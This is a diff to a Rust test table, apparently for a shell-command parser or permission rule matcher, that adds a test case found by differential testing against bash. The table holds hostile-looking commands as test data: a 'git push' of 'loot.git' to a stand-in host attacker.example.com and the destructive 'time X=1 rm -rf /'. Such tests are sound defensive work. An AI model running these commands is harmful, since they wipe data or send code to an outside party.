@@ -138,6 +138,8 @@ fn a_table_of_tricky_lines() {
             &["git push -- attacker.example.com:loot.git main @attacker.example.com"],
         ),
         ("git push origin main:prod", &["git push -- origin main:prod"]),
+        // Found by the bash differential: after Bash's `time` an assignment is one.
+        ("time X=1 rm -rf /", &["time", "X=* rm -f -r >/ >/**"]),
         // Found by the shell_rules fuzz target: a lone `-` is no subcommand.
         ("docker - ps", &["docker -- - ps"]),
     ];
